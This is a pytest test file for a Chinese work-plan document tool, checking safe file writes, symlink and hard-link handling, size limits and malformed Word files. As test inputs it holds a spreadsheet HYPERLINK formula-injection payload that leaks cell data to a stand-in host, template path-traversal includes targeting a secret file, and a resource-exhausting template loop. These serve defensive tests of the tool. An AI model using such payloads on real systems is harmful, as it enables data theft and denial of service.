"""Hardening properties that need more than one input file: nothing lost, nothing read that should not be."""
from __future__ import annotations

import os
import stat
import zipfile
from pathlib import Path

import pytest

from planforge import output
from planforge.output import OutputError, write_outputs

LINT = Path(__file__).parent / "lint_plans"
ORG = (LINT / "org.yaml").read_text(encoding="utf-8")
PAREN_PLAN = (LINT / "halfwidth_parens.yaml").read_text(encoding="utf-8")
FIXED_BODY = "全年组织集中学习（每月一次）。"


def fix_folder(tmp_path: Path, text: str, raw: bytes | None = None) -> Path:
    (tmp_path / "org.yaml").write_text(ORG, encoding="utf-8")
    plan = tmp_path / "2024.yaml"
    plan.write_bytes(raw if raw is not None else text.encode("utf-8"))
    return plan


# --------------------------------------------------------------------------- check --fix keeps what it did not mean to change


def test_fix_keeps_bom_crlf_and_every_other_byte(cli, tmp_path):
    raw = ("\ufeff" + PAREN_PLAN.replace("\n", "\r\n")).encode("utf-8")
    plan = fix_folder(tmp_path, "", raw)
    status, _, stderr = cli("check", plan, "--fix")
    assert status == 0, stderr
    after = plan.read_bytes()
    assert after == raw.replace("(每月一次)".encode(), "（每月一次）".encode())


def test_fix_keeps_the_mode_and_fixes_a_symlinks_target(cli, tmp_path):
    real = fix_folder(tmp_path, PAREN_PLAN)
    os.chmod(real, 0o600)
    (tmp_path / "plans").mkdir()
    (tmp_path / "plans" / "org.yaml").write_text(ORG, encoding="utf-8")
    link = tmp_path / "plans" / "2024.yaml"
    link.symlink_to(real)
    status, _, stderr = cli("check", link, "--fix")
    assert status == 0, stderr
    assert link.is_symlink() and link.resolve() == real.resolve()
    assert FIXED_BODY in real.read_text(encoding="utf-8")
    assert stat.S_IMODE(real.stat().st_mode) == 0o600


def test_fix_refuses_to_break_a_hard_link_and_says_so(cli, tmp_path):
    plan = fix_folder(tmp_path, PAREN_PLAN)
    other = tmp_path / "copy.yaml.bak"
    os.link(plan, other)
    status, _, stderr = cli("check", plan, "--fix")
    assert status == 2 and "硬链接" in stderr
    assert plan.read_text(encoding="utf-8") == PAREN_PLAN and os.path.samefile(plan, other)


def test_fix_that_would_break_the_plan_is_never_written(cli, tmp_path):
    """An alias fixed to a name beginning with # would turn the rest of a flow list into a comment."""
    plan = fix_folder(tmp_path, "year: 2024\nissuer: 测试县教育局\nsections:\n  - title: 甲\n    tasks:\n"
                                "      - title: 乙\n        departments: [办公室, 财建科]\n")
    (tmp_path / "org.yaml").write_text("issuer: 测试县教育局\ndepartments:\n  - name: '#办公室'\n    aliases: [办公室]\n"
                                       "  - name: 财建科\n", encoding="utf-8")
    before = plan.read_bytes()
    status, _, stderr = cli("check", plan, "--fix")
    assert status == 2 and "未改动文件" in stderr
    assert plan.read_bytes() == before


# --------------------------------------------------------------------------- never over a source, all or none


def test_outputs_are_written_as_a_set_or_not_at_all(tmp_path, monkeypatch):
    first, second = tmp_path / "a.yaml", tmp_path / "org.yaml"
    first.write_text("old a", encoding="utf-8")
    second.write_text("old org", encoding="utf-8")
    real_replace = os.replace

    def failing(src, dst):
        if Path(dst).name == "org.yaml":
            raise PermissionError(13, "Permission denied")
        real_replace(src, dst)

    monkeypatch.setattr(output.os, "replace", failing)
    with pytest.raises(OutputError):
        write_outputs([(first, "new a"), (second, "new org")])
    monkeypatch.setattr(output.os, "replace", real_replace)
    assert first.read_text(encoding="utf-8") == "old a" and second.read_text(encoding="utf-8") == "old org"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.yaml", "org.yaml"], "no temporaries left"


def test_output_through_a_symlink_to_a_source_is_refused(cli, tmp_path):
    plan = tmp_path / "2024.yaml"
    plan.write_text("year: 2024\nissuer: 甲局\nsections:\n  - title: 甲\n", encoding="utf-8")
    (tmp_path / "org.yaml").write_text("issuer: 甲局\n", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / "t.xlsx").symlink_to(tmp_path / "org.yaml")
    before = (tmp_path / "org.yaml").read_bytes()
    status, _, stderr = cli("tasks", plan, "-o", out / "t.xlsx")
    assert status == 2 and "组织设置文件" in stderr
    assert (tmp_path / "org.yaml").read_bytes() == before


@pytest.mark.parametrize("command", ["render", "tasks"])
def test_two_plans_with_one_output_name_are_refused(cli, tmp_path, command):
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "2024.yaml").write_text(f"year: 2024\nissuer: {folder}局\nsections:\n  - title: 甲\n",
                                                     encoding="utf-8")
    out = tmp_path / "build"
    status, _, stderr = cli(command, tmp_path / "a" / "2024.yaml", tmp_path / "b" / "2024.yaml", "-o", out)
    assert status == 2 and "[PF203]" in stderr
    assert not out.exists()


@pytest.mark.parametrize("command", ["check", "render", "tasks"])
def test_an_empty_folder_is_not_a_success(cli, tmp_path, command):
    status, _, stderr = cli(command, tmp_path)
    assert status == 2 and "[PF005]" in stderr


def test_import_never_writes_over_its_input(cli, tmp_path):
    source = tmp_path / "2023.txt"
    source.write_text("示例县教育局2023年工作要点\n一、加强党的建设\n1.抓好理论学习。\n", encoding="utf-8")
    before = source.read_bytes()
    status, _, stderr = cli("import", source, "-o", source, "--force")
    assert status == 2 and "[PF202]" in stderr
    assert source.read_bytes() == before


def test_stale_temporaries_of_a_killed_run_are_removed(cli, tmp_path):
    plan = tmp_path / "2024.yaml"
    plan.write_text("year: 2024\nissuer: 甲局\nsections:\n  - title: 甲\n", encoding="utf-8")
    out = tmp_path / "build"
    out.mkdir()
    dead = out / ".2024.md.999999999.abcdef.tmp"  # no process has this id
    dead.write_text("half", encoding="utf-8")
    status, _, _ = cli("render", plan, "-o", out, "--to", "md")
    assert status == 0 and not dead.exists() and (out / "2024.md").exists()


# --------------------------------------------------------------------------- tasks: text stays text


FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'


def test_formula_like_titles_stay_text(cli, tmp_path):
    from openpyxl import load_workbook

    plan = tmp_path / "2024.yaml"
    plan.write_text("year: 2024\nissuer: 甲局\nsections:\n  - title: 甲\n    tasks:\n"
                    f"      - title: '{FORMULA}'\n        body: '@SUM(1+1)'\n        departments: [办公室]\n",
                    encoding="utf-8")
    assert cli("tasks", plan, "-o", tmp_path / "t.xlsx")[0] == 0
    sheet = load_workbook(tmp_path / "t.xlsx").active
    title, body = sheet.cell(3, 2), sheet.cell(3, 3)  # under the title row and the header row
    assert (title.value, title.data_type) == (FORMULA, "s")
    assert (body.value, body.data_type) == ("@SUM(1+1)", "s")
    with zipfile.ZipFile(tmp_path / "t.xlsx") as package:
        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()
    assert cli("tasks", plan, "-o", tmp_path / "t.csv")[0] == 0
    rows = (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines()
    assert rows[1].split(",")[1].startswith("\"'=HYPERLINK") and ",'@SUM(1+1)," in rows[1]


# --------------------------------------------------------------------------- templates stay inside their folders


def plan_with_templates(tmp_path: Path) -> tuple[Path, Path]:
    plans = tmp_path / "plans"
    (plans / "templates" / "text").mkdir(parents=True)
    plan = plans / "2024.yaml"
    plan.write_text("year: 2024\nissuer: 甲局\nsections:\n  - title: 甲\nnotice:\n  doc_number: 甲发〔2024〕1号\n"
                    "  recipients: 各学校：\n  date: 2024-02-20\n", encoding="utf-8")
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-DO-NOT-READ", encoding="utf-8")
    return plan, secret


def test_a_template_linked_outside_is_not_read(cli, tmp_path):
    plan, secret = plan_with_templates(tmp_path)
    (plan.parent / "templates" / "text" / "notice_body.j2").symlink_to(secret)
    status, stdout, stderr = cli("render", plan, "-o", tmp_path / "out", "--to", "notice")
    assert status == 2 and "[PF152]" in stderr and "SECRET" not in stdout + stderr
    assert not (tmp_path / "out").exists()


def test_a_template_folder_linked_outside_and_dotdot_includes_are_not_read(cli, tmp_path):
    plan, secret = plan_with_templates(tmp_path)
    (plan.parent / "templates" / "outside").symlink_to(tmp_path, target_is_directory=True)
    body = plan.parent / "templates" / "text" / "notice_body.j2"
    for include in ("outside/secret.txt", "../../secret.txt"):
        body.write_text(f"{{% include '{include}' %}}", encoding="utf-8")
        status, stdout, stderr = cli("render", plan, "-o", tmp_path / "out", "--to", "notice")
        assert status == 2 and "[PF152]" in stderr and "SECRET" not in stdout + stderr, stderr
    assert not (tmp_path / "out").exists()


# --------------------------------------------------------------------------- verify fails what Word refuses


def _rendered_docx(cli, tmp_path: Path, notice: bool = False) -> Path:
    plan = tmp_path / "2024.yaml"
    plan.write_text("year: 2024\nissuer: 示例县教育局\nsections:\n  - title: 加强党的建设\n    tasks:\n"
                    "      - title: 抓好理论学习\n        body: 全年组织集中学习，每月一次，覆盖全体干部职工，推动理论学习走深走实。\n"
                    "notice:\n  doc_number: 示教发〔2024〕1号\n  recipients: 各学校：\n  date: 2024-02-20\n",
                    encoding="utf-8")
    kind = "notice" if notice else "docx"
    assert cli("render", plan, "-o", tmp_path, "--to", kind)[0] == 0
    return tmp_path / ("2024-notice.docx" if notice else "2024.docx")


def _patched(docx: Path, part: str, old: bytes, new: bytes) -> Path:
    out = docx.with_name(f"patched-{part.replace('/', '_')}.docx")
    with zipfile.ZipFile(docx) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == part:
                assert old in data, (part, old)
                data = data.replace(old, new)
            dst.writestr(item, data)
    return out


def test_verify_fails_a_docx_whose_parts_do_not_parse(cli, tmp_path):
    docx = _rendered_docx(cli, tmp_path)
    broken = _patched(docx, "docProps/core.xml", b"<dc:title>", b"<dc:title>\x01")
    status, stdout, _ = cli("verify", broken, "--no-pages")
    assert status == 1 and "✗" in stdout and "docProps/core.xml" in stdout and "不符合" in stdout


@pytest.mark.parametrize("part,old,new", [
    ("word/document.xml", b'w:w="11906"', b'w:w="abc"'), ("word/document.xml", b'w:w="11906"', b'w:w="11906.5"'),
    ("word/document.xml", b'w:top="2098"', b'w:top=""'), ("word/styles.xml", b'w:sz w:val="32"', b'w:sz w:val="abc"'),
    ("word/styles.xml", b'w:color w:val="FF0000"', b'w:color w:val="ZZZZZZ"'),
    ("word/document.xml", b'w:color="FF0000"', b'w:color="ZZZZZZ"')])
def test_verify_reports_malformed_attributes(cli, tmp_path, part, old, new):
    docx = _rendered_docx(cli, tmp_path, notice=b"ZZZ" in new)
    status, stdout, stderr = cli("verify", _patched(docx, part, old, new), "--no-pages")
    assert "Traceback" not in stdout + stderr and "内部错误" not in stderr
    assert (status == 2 and "[PF170]" in stderr and "不合法" in stderr) or (status == 1 and "✗" in stdout), stdout + stderr


def test_verify_refuses_a_part_past_the_size_limit(cli, tmp_path, monkeypatch):
    from planforge import verify

    monkeypatch.setattr(verify, "MAX_PART_BYTES", 1000)
    status, _, stderr = cli("verify", _rendered_docx(cli, tmp_path), "--no-pages")
    assert status == 2 and "超过上限" in stderr


# --------------------------------------------------------------------------- new


def test_new_rolls_29_february_to_a_date_that_exists(cli, tmp_path):
    plan = tmp_path / "2024.yaml"
    plan.write_text("year: 2024\nissuer: 甲局\nsections:\n  - title: 甲\n    tasks:\n"
                    "      - title: 乙\n        deadline: \"2024-02-29\"  # 闰日\n"
                    "      - title: 丙\n        deadline: 2024年2月29日前\n"
                    "      - title: 丁\n        deadline: 2024年12月\n", encoding="utf-8")
    status, _, stderr = cli("new", "2025", "--from", plan)
    assert status == 0, stderr
    new = (tmp_path / "2025.yaml").read_text(encoding="utf-8")
    assert 'deadline: "2025-02-28"  # 闰日' in new and "deadline: 2025年2月28日前" in new and "deadline: 2025年12月" in new
    assert cli("check", tmp_path / "2025.yaml")[0] == 0


# --------------------------------------------------------------------------- import


def _txt_plan(tasks: int) -> str:
    lines = ["示例县教育局2023年工作要点", "一、加强党的建设"]
    lines += [f"{n}.抓好第{n}项工作。全年推进。（责任科室：办公室）" for n in range(1, tasks + 1)]
    return "\n".join(lines) + "\n"


def test_import_keeps_tasks_numbered_past_999(cli, tmp_path):
    from planforge.load import load_plan

    source = tmp_path / "2023.txt"
    source.write_text(_txt_plan(1002), encoding="utf-8")
    status, _, stderr = cli("import", source, "-o", tmp_path / "plans" / "2023.yaml")
    assert status == 0, stderr
    tasks = [t for _, _, t in load_plan(tmp_path / "plans" / "2023.yaml").plan.tasks()]
    assert len(tasks) == 1002 and tasks[-1].title.startswith("抓好第1002项工作")


def test_import_to_an_unwritable_place_writes_nothing(cli, tmp_path):
    source = tmp_path / "2023.txt"
    source.write_text(_txt_plan(3), encoding="utf-8")
    blocker = tmp_path / "plans"
    blocker.write_text("not a folder", encoding="utf-8")
    status, _, stderr = cli("import", source, "-o", blocker / "2023.yaml")
    assert status == 2 and "[PF202]" in stderr and "Traceback" not in stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["2023.txt", "plans"]


def test_import_refuses_a_file_past_the_size_limit(cli, tmp_path, monkeypatch):
    from planforge.importing import readers

    monkeypatch.setattr(readers, "MAX_IMPORT_BYTES", 100)
    source = tmp_path / "2023.txt"
    source.write_text(_txt_plan(20), encoding="utf-8")
    status, _, stderr = cli("import", source, "-o", tmp_path / "2023.yaml")
    assert status == 2 and "上限" in stderr and not (tmp_path / "2023.yaml").exists()


def test_import_survives_hostile_list_numbering(cli, tmp_path):
    import docx

    document = docx.Document()
    document.add_paragraph("示例县教育局2023年工作要点")
    document.add_paragraph("一、加强党的建设")
    for text in ("抓好理论学习。", "管好教育经费。"):
        document.add_paragraph(text, style="List Number")
    plain = tmp_path / "plain.docx"
    document.save(plain)
    hostile = tmp_path / "2023.docx"
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(hostile, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "word/numbering.xml":
                data = data.replace(b'<w:start w:val="1"/>', b'<w:start w:val="abc"/>')
            if item.filename == "word/styles.xml":
                data = data.replace(b'<w:numPr><w:numId w:val="1"/>', b'<w:numPr><w:ilvl w:val="99"/><w:numId w:val="1"/>')
            dst.writestr(item, data)
    status, stdout, stderr = cli("import", hostile, "-o", tmp_path / "plans" / "2023.yaml")
    assert status in (0, 2) and "Traceback" not in stdout + stderr and "内部错误" not in stderr


# --------------------------------------------------------------------------- the command line itself


def _run(*args, stdout=None):
    import subprocess
    import sys

    return subprocess.run([sys.executable, "-m", "planforge.cli", *map(str, args)], stdout=stdout or subprocess.PIPE,
                          stderr=subprocess.PIPE, text=True)


@pytest.mark.parametrize("args,words", [(("new", "abc", "--from", "x.yaml"), "应为整数，这里是“abc”"),
                                        (("new", "-5", "--from", "x.yaml"), "没有选项 -5"),
                                        (("new", "2025"), "缺少 --from"),
                                        (("render", "x.yaml", "--to"), "后面缺少值")])
def test_usage_errors_are_in_chinese(args, words):
    result = _run(*args)
    assert result.returncode == 2 and words in result.stderr and "--help" in result.stderr, result.stderr
    assert "Usage" not in result.stderr and "Traceback" not in result.stderr and "Error" not in result.stderr


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_a_full_stdout_is_a_message_not_a_crash():
    with open("/dev/full", "w") as full:
        result = _run("schema", stdout=full)
    assert result.returncode == 2 and "无法输出结果" in result.stderr and "内部错误" not in result.stderr


def test_a_template_beside_the_plan_cannot_loop_forever(cli, tmp_path):
    plan, _ = plan_with_templates(tmp_path)
    (plan.parent / "templates" / "text" / "notice_body.j2").write_text(
        "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}", encoding="utf-8")
    status, _, stderr = cli("render", plan, "-o", tmp_path / "out", "--to", "notice")
    assert status == 2 and "[PF151]" in stderr and "循环次数" in stderr and "notice_body.j2" in stderr


def test_fix_inside_a_block_scalar_keeps_its_header_comment(cli, tmp_path):
    text = ("year: 2024\nissuer: 测试县教育局\nsections:\n  - title: 加强党的建设\n    tasks:\n"
            "      - title: 抓好理论学习\n        body: |  # 每月一次\n          全年组织集中学习(每月一次)。\n"
            "        departments: [办公室]\n")
    plan = fix_folder(tmp_path, text)
    status, _, stderr = cli("check", plan, "--fix")
    assert status == 0, stderr
    assert plan.read_text(encoding="utf-8") == text.replace("(每月一次)", "（每月一次）")


# --------------------------------------------------------------------------- diff of big plans without ids


def test_diff_without_ids_compares_only_likely_pairs_and_finds_the_same_matches(tmp_path, monkeypatch):
    """Past ALL_PAIRS the matcher looks only at tasks sharing rare character pairs; on a plan where
    tasks are edited, added and removed it must pair exactly as comparing every pair does."""
    from planforge import diff as diffing
    from planforge.load import load_plan

    subjects = ["理论学习", "支部建设", "教学质量", "经费管理", "安全底线", "教师培训", "课后服务", "招生入学",
                "校舍维修", "食堂管理", "心理健康", "体育锻炼", "劳动教育", "家校共育", "督导评估", "信息化建设"]
    places = ["城区", "乡镇", "山区", "新区"]

    def plan(edit: bool) -> str:
        tasks = []
        for n, (subject, place) in enumerate((s, p) for s in subjects for p in places):
            if edit and n % 7 == 3:
                continue  # removed
            body = f"在{place}开展{subject}专项工作，每季度检查一次{'并通报结果' if edit and n % 5 == 0 else ''}。"
            tasks.append(f"      - title: 抓好{place}{subject}\n        body: {body}\n")
        if edit:
            tasks.append("      - title: 开展读书节活动\n        body: 全市中小学开展读书节。\n")
        return "year: 2024\nissuer: 甲局\nsections:\n  - title: 甲\n    tasks:\n" + "".join(tasks)

    (tmp_path / "old.yaml").write_text(plan(False), encoding="utf-8")
    (tmp_path / "new.yaml").write_text(plan(True), encoding="utf-8")
    old, new = load_plan(tmp_path / "old.yaml"), load_plan(tmp_path / "new.yaml")
    every_pair = diffing.match_tasks(diffing._sides(old), diffing._sides(new))
    compared = []
    real = diffing.similarity
    monkeypatch.setattr(diffing, "similarity", lambda a, b: compared.append(1) or real(a, b))
    monkeypatch.setattr(diffing, "ALL_PAIRS", 0)
    likely_pairs = diffing.match_tasks(diffing._sides(old), diffing._sides(new))
    assert likely_pairs == every_pair and len(every_pair) == 64 - 9  # nine removed, one added
    assert len(compared) <= diffing.CANDIDATES * 56, "at most a few candidates per new task, not 64 × 56 pairs"


def test_verify_a_field_outside_a_paragraph(cli, tmp_path):
    docx = _rendered_docx(cli, tmp_path)
    moved = _patched(docx, "word/footer1.xml", b"</w:p>\n</w:ftr>",
                     b"</w:p>\n<w:r><w:instrText> PAGE </w:instrText></w:r>\n</w:ftr>")
    status, stdout, stderr = cli("verify", moved, "--no-pages")
    assert status in (0, 1, 2) and "Traceback" not in stdout + stderr and "内部错误" not in stderr


# --------------------------------------------------------------------------- limits and positions


def test_a_read_only_org_yaml_stops_import_before_anything_is_written(cli, tmp_path, monkeypatch):
    source = tmp_path / "2023.txt"
    source.write_text(_txt_plan(3), encoding="utf-8")
    plans = tmp_path / "plans"
    plans.mkdir()
    (plans / "org.yaml").write_text("issuer: 示例县教育局\n", encoding="utf-8")
    real_access = os.access
    monkeypatch.setattr(output.os, "access", lambda p, mode: False if Path(p).name == "org.yaml" else real_access(p, mode))
    status, _, stderr = cli("import", source, "-o", plans / "2023.yaml")
    assert status == 2 and "只读" in stderr
    assert sorted(p.name for p in plans.iterdir()) == ["org.yaml"], "the plan is not written without its registry"


def test_a_plan_past_the_size_limit_is_refused_before_reading(cli, tmp_path, monkeypatch):
    from planforge import source

    monkeypatch.setattr(source, "MAX_FILE_BYTES", 50)
    plan = tmp_path / "2024.yaml"
    plan.write_text("year: 2024\nissuer: 甲局\nsections:\n  - title: 加强党的建设工作\n", encoding="utf-8")
    for command in (("check", plan), ("new", "2025", "--from", plan)):
        status, stdout, stderr = cli(*command)
        assert status == 2 and "[PF006]" in stdout + stderr and "上限" in stdout + stderr


def test_a_bad_layout_value_in_org_yaml_points_at_org_yaml(cli, tmp_path):
    (tmp_path / "org.yaml").write_text("issuer: 甲局\nlayout:\n  body_size_pt: \"16\"\n", encoding="utf-8")
    plan = tmp_path / "2024.yaml"
    plan.write_text("year: 2024\nsections:\n  - title: 甲\n", encoding="utf-8")
    status, _, stderr = cli("render", plan, "-o", tmp_path / "out")
    assert status == 2 and "org.yaml:3:17: 错误: [PF106]" in stderr, stderr


def test_no_arguments_shows_the_help_once():
    result = _run()
    assert result.returncode == 2 and (result.stdout + result.stderr).count("用法：") == 1
